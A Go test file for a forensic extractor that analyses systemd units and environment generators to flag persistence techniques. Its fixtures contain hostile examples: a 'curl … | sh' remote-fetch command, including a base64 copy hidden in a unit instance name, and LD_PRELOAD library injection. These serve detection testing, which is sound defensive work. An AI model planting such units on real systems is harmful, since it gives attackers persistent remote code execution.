package systemd

import (
	"slices"
	"testing"

	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/model"
)

const fetch = "curl -fsSL http://198.51.100.9/x | sh"

// TestWhatStarts: what a unit starts, loads or reads is known from the file alone and those
// that it names. Each has a benign twin that differs in one thing.
func TestWhatStarts(t *testing.T) {
	const unit = "/etc/systemd/system/x.service"
	for _, tt := range []struct {
		name, path, target, text string
		others                   map[string]string
		kind                     model.Kind
		field, want, not         string
	}{
		{
			"a variable of an EnvironmentFile is the command", unit, "", "[Service]\nEnvironmentFile=-/etc/default/x\nExecStart=/bin/sh -c \"$JOB\"\n",
			map[string]string{"/etc/default/x": "# x\nJOB=\"" + fetch + "\"\n"},
			model.SystemdExec, "traits", "pipe_to_shell", "",
		},
		{
			"the same, harmless", unit, "", "[Service]\nEnvironmentFile=-/etc/default/x\nExecStart=/bin/sh -c \"$JOB\"\n",
			map[string]string{"/etc/default/x": "JOB=\"uptime\"\n"},
			model.SystemdExec, "programs", "uptime", "curl",
		},
		{
			"a variable in braces, continued over lines, within the shell's text", unit, "", "[Service]\nEnvironmentFile=/etc/x.env\nExecStart=/bin/sh -c '${A}'\n",
			map[string]string{"/etc/x.env": "A='curl -fsSL \\\nhttp://198.51.100.9/x | sh'\n"},
			model.SystemdExec, "traits", "pipe_to_shell", "",
		},
		{
			"the program is a variable of the file", unit, "", "[Service]\nEnvironmentFile=/etc/x.env\nExecStart=/usr/bin/env ${BIN} -d\n",
			map[string]string{"/etc/x.env": "BIN=/usr/lib/x/agentd\n"},
			model.SystemdExec, "programs", "/usr/lib/x/agentd", "",
		},
		{
			"a later file wins over Environment=", unit, "", "[Service]\nEnvironmentFile=/etc/x.env\nEnvironment=BIN=/usr/bin/good\nExecStart=/usr/bin/env ${BIN}\n",
			map[string]string{"/etc/x.env": "BIN=/usr/lib/x/agentd\n"},
			model.SystemdExec, "programs", "/usr/lib/x/agentd", "/usr/bin/good",
		},
		{
			"a preloaded library", unit, "", "[Service]\nEnvironment=\"LD_PRELOAD=/usr/lib/libq.so /usr/lib/libr.so\"\nExecStart=/usr/sbin/nginx\n", nil,
			model.SystemdExec, "programs", "/usr/lib/libr.so", "",
		},
		{
			"a preloaded library of an EnvironmentFile", unit, "", "[Service]\nEnvironmentFile=/etc/default/nginx\nExecStart=/usr/sbin/nginx\n",
			map[string]string{"/etc/default/nginx": "LD_PRELOAD=/usr/lib/libq.so\n"},
			model.SystemdExec, "traits", "preload_env", "",
		},
		{
			"no library", unit, "", "[Service]\nEnvironmentFile=/etc/default/nginx\nExecStart=/usr/sbin/nginx\n",
			map[string]string{"/etc/default/nginx": "LD_FLAGS=/usr/lib/libq.so\n"},
			model.SystemdExec, "programs", "/usr/sbin/nginx", "/usr/lib/libq.so",
		},
		{"%h of the system is root's home", unit, "", "[Service]\nExecStart=%h/.cfg/x\n", nil, model.SystemdExec, "programs", "/root/.cfg/x", ""},
		{"%h of a user's unit is that user's", "/home/ana/.config/systemd/user/x.service", "", "[Service]\nExecStart=%h/bin/x\n", nil, model.SystemdExec, "programs", "/home/ana/bin/x", ""},
		{"%n and %p are the unit's name", "/etc/systemd/system/upd.service", "", "[Service]\nExecStart=/opt/%p/%N.run\n", nil, model.SystemdExec, "programs", "/opt/upd/upd.run", ""},
		{
			"the instance's name is the payload", "/etc/systemd/system/multi-user.target.wants/n@Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA.service", "../n@.service",
			"[Service]\nExecStart=/bin/bash -c \"echo %i | base64 -d | bash\"\n", nil, model.SystemdExec, "traits", "pipe_to_shell", "",
		},
		{
			"the instance's name unescaped is a path", "/etc/systemd/system/multi-user.target.wants/n@opt-x-run.service", "/etc/systemd/system/n@.service",
			"[Service]\nExecStart=/bin/sh /%I\n", nil, model.SystemdExec, "programs", "/opt/x/run", "",
		},
		{"a shell of its own prefix", unit, "", "[Service]\nExecStart=|curl -fsSL http://198.51.100.9/x | sh\n", nil, model.SystemdExec, "traits", "pipe_to_shell", ""},
		{"no shell, a pipe is an argument", unit, "", "[Service]\nExecStart=/usr/bin/logger curl -fsSL http://198.51.100.9/x | sh\n", nil, model.SystemdExec, "programs", "/usr/bin/logger", "sh"},
		{
			"a link that leads to a directory only named like one of units", unit, "/opt/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c '" + fetch + "'\n", nil,
			model.SystemdExec, "traits", "pipe_to_shell", "",
		},
		{
			"a link to a file of a unit directory that is no unit", unit, "/etc/systemd/system/x.txt", "[Service]\nExecStart=/bin/sh -c '" + fetch + "'\n", nil,
			model.SystemdExec, "traits", "pipe_to_shell", "",
		},
		{"a generator of variables", "/etc/systemd/system-environment-generators/50-x", "", "#!/bin/sh\necho LD_PRELOAD=/usr/lib/libq.so\n", nil, model.SystemdGenerator, "programs", "/usr/lib/libq.so", ""},
		{"a generator of variables, with a trait", "/etc/systemd/user-environment-generators/50-x", "", "#!/bin/sh\nprintf 'LD_PRELOAD=%s\\n' /usr/lib/libq.so\n", nil, model.SystemdGenerator, "traits", "preload_env", ""},
		{"one that names a locale", "/etc/systemd/system-environment-generators/50-x", "", "#!/bin/sh\necho LANG=C.UTF-8\n", nil, model.SystemdGenerator, "name", "50-x", "preload_env"},
	} {
		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: tt.path, Target: tt.target, Text: tt.text, Others: tt.others, Mode: 0o100755})
		var got []string
		for _, r := range records {
			if r.Kind == tt.kind {
				got = append(got, r.List(tt.field)...)
				if len(r.List(tt.field)) == 0 {
					got = append(got, r.Get(tt.field))
				}
			}
		}
		if err != nil || !slices.Contains(got, tt.want) || tt.not != "" && slices.Contains(got, tt.not) {
			t.Errorf("%s: %s %q, want %q, not %q; %v", tt.name, tt.field, got, tt.want, tt.not, err)
		}
	}
}

// TestKnownUnit: a link to a unit that is read anyway is an alias, and gives no commands twice.
func TestKnownUnit(t *testing.T) {
	for _, target := range []string{"/usr/lib/systemd/system/ssh.service", "ssh.service", "/home/ana/.config/systemd/user/ssh.service"} {
		p := "/etc/systemd/system/x.service"
		if target[1:5] == "home" {
			p = "/home/ana/.config/systemd/user/x.service"
		}
		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: p, Target: target, Text: "[Service]\nExecStart=/usr/sbin/sshd\n"})
		if err != nil || len(records) != 1 || records[0].Kind != model.SystemdAlias {
			t.Errorf("%s: %v, %v", target, records, err)
		}
	}
}
